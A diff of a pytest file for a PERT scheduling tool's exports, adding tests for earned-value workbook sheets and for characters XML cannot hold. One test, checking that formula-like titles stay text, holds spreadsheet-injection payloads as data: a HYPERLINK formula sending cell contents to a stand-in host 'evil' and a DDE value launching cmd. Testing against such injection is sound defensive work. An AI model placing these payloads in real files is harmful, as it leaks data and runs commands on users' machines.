@@ -2,6 +2,7 @@
 
 import csv
 import io
+import shutil
 from dataclasses import dataclass, replace
 from datetime import date, datetime
 from pathlib import Path
@@ -10,15 +11,19 @@ import pytest
 from icalendar import Calendar as ICalendar
 from openpyxl import Workbook, load_workbook
 
+from running import EXAMPLES, opened
+from pert_companion.analysis.performance import performance
 from pert_companion.carry import CarryOptions
 from pert_companion.cli import exporting, schedule as showing
 from pert_companion.cli.common import run_command
-from pert_companion.importing import import_plan, read_source, write
-from pert_companion.opening import open_plan
-from pert_companion.plan import Lag, Link, LinkKind
-from pert_companion.programs import Programs
+from pert_companion.cli.opening import opened as states
+from pert_companion.cli.writing import deck_outputs
+from pert_companion.importing.conversion import import_plan, read_source
+from pert_companion.model.figures import days_text
+from pert_companion.model.output import Outputs
+from pert_companion.model.plan import Lag, Link, LinkKind
+from pert_companion.programs.client import Programs
 from pert_companion.readers.base import ReaderOptions
-from pert_companion.writers.csv_file import days_text
 from pert_companion.writers.text import fitted, shown, text_width
 from planner_files import mspdi_bytes
 from sample_plan import sample_plan
@@ -59,7 +64,8 @@ def fixture_wing(tmp_path_factory: pytest.TempPathFactory) -> Path:
     plan = replace(plan, links=(*links, lead))
     original.write_bytes(mspdi_bytes(plan))
     deck = folder / "wing.csv"
-    write(import_plan(read_source(original), ReaderOptions(), CarryOptions(), deck), deck)
+    made = import_plan(read_source(original), ReaderOptions(), CarryOptions(), deck)
+    Outputs().write(*deck_outputs(deck, made.carried.data, made.side))
     return deck
 
 
@@ -74,7 +80,7 @@ def export(capture: Capture, deck: Path, ending: str, *words: object) -> bytes:
 
 def shortest(deck: Path) -> int:
     """Returns the shortest length of a deck."""
-    curve = PROGRAMS.curve(PROGRAMS.network(open_plan(deck).deck))
+    curve = PROGRAMS.curve(PROGRAMS.network(opened(deck).deck))
     return min(point.length for point in curve)
 
 
@@ -112,7 +118,7 @@ def test_a_length_that_does_not_exist(wing: Path, capsys: Capture) -> None:
         for command, words in (("schedule", ()), ("export", ("-o", target))):
             done = run(capsys, command, wing, "--length", length, *words)
             assert (done.status, done.output) == (1, "")
-            assert f"no schedule of length {length}: the shortest is {least}, and at" in done.error
+            assert f"no schedule of {length} days: the shortest has {least} days" in done.error
             assert done.error.count("\n") == 1
     assert not target.exists()
 
@@ -140,18 +146,43 @@ def test_workbook(wing: Path, capsys: Capture) -> None:
     lengths = [curve.cell(row, 1).value for row in range(2, curve.max_row + 1)]
     assert lengths == sorted(lengths, reverse=True) or lengths == sorted(lengths)
     costs = [sheet.cell(row, head["Cost"]).value for row in range(2, 62)]
-    chosen = [curve.cell(row, 5).value for row in range(2, curve.max_row + 1)]
+    chosen = [curve.cell(row, 4).value for row in range(2, curve.max_row + 1)]
     assert sum(costs) in chosen
     load = book["Load"]
     assert isinstance(load.cell(2, 1).value, datetime)
     assert sum(load.cell(row, 2).value for row in range(2, load.max_row + 1)) == sum(costs)
 
 
+def test_workbook_of_a_running_project(capsys: Capture, tmp_path: Path) -> None:
+    """It has the earned value by the deck's own plan, as pert-compare has it."""
+    deck = EXAMPLES / "pump" / "march.csv"
+    for path in deck.parent.glob("*.csv"):
+        shutil.copy(path, tmp_path)
+    shutil.copy(deck.with_suffix(".json"), tmp_path)
+    book = book_of(export(capsys, tmp_path / "march.csv", ".xlsx"))
+    assert book.sheetnames[5:] == ["Earned value", "By account"]
+    (state,) = states([deck], PROGRAMS)
+    found = performance(state, state)
+    for name, lines in (
+        ("Earned value", (*found.structure, *found.totals)),
+        ("By account", found.accounts),
+    ):
+        rows = list(book[name].values)[1:]
+        assert [row[0] or "" for row in rows] == [line.code for line in lines]
+        for column, figure in ((5, "bac"), (6, "pv"), (7, "ev"), (8, "ac")):
+            amounts = [getattr(line.figures, figure) for line in lines]
+            assert [round(row[column] * 100) for row in rows] == amounts
+
+
 def test_formulas_stay_text(capsys: Capture, tmp_path: Path) -> None:
     """Titles that begin like formulas are text in a workbook and in CSV."""
     deck = tmp_path / "formula.csv"
     deck.write_bytes((CASES / "formula.csv").read_bytes())
-    titles = {'=HYPERLINK("http://evil/?"&A1,"Dig")', "@SUM(1+1)*cmd|'/c calc'!A0", "+1+1"}
+    titles = {
+        '=HYPERLINK("http://evil/?"&A1,"Dig")',
+        "@SUM(1+1)*cmd|'/c calc'!A0",
+        "+1+1",
+    }
     sheet = book_of(export(capsys, deck, ".xlsx"))["Schedule"]
     head = {cell.value: cell.column for cell in sheet[1]}
     cells = [sheet.cell(row, head["Name"]) for row in range(2, 5)]
@@ -289,8 +320,8 @@ def test_days_in_csv(minutes: int, text: str) -> None:
 def test_decks_written_by_hand(capsys: Capture) -> None:
     """A network without a side file: activities with predecessors through dummies, every day."""
     deck = EXAMPLES / "house.csv"
-    normal = rows_of(run(capsys, "schedule", deck, "--csv").output.encode())
-    words = ("--length", shortest(deck), "--csv")
+    normal = rows_of(run(capsys, "schedule", deck, "--plan", "--csv").output.encode())
+    words = ("--plan", "--length", shortest(deck), "--csv")
     best = rows_of(run(capsys, "schedule", deck, *words).output.encode())
     codes = {row["Code"] for row in normal}
     assert len(normal) == len(best) == len(codes)
@@ -314,3 +345,19 @@ def test_tasks_of_a_resource(capsys: Capture) -> None:
     assert [row["Code"] for row in some] == [
         row["Code"] for row in every if names[0] in row["Resources"].split("; ")
     ]
+
+
+@pytest.mark.parametrize("ending", [".xml", ".xlsx"])
+def test_titles_that_a_format_cannot_hold(tmp_path: Path, capfd: Capture, ending: str) -> None:
+    """A character that XML cannot hold is replaced, and the card is named; one is U+FFFD itself."""
+    deck = tmp_path / "t.csv"
+    deck.write_bytes((Path(__file__).parents[1] / "cases" / "titles.csv").read_bytes())
+    done = run(capfd, "export", deck, "-o", tmp_path / f"out{ending}")
+    assert done.status == 0, done.error
+    assert "Fit-windows: its title has U+FFFF, which is U+FFFD in the file" in done.error
+    assert "Pipes: its title has U+FFFE, which is U+FFFD in the file" in done.error
+    if ending == ".xlsx":
+        cells = load_workbook(tmp_path / "out.xlsx")["Schedule"]["E"]
+        assert [cell.value for cell in cells].count("\ufffd") == 3
+    else:
+        assert (tmp_path / "out.xml").read_text("utf-8").count("<Name>\ufffd</Name>") == 3
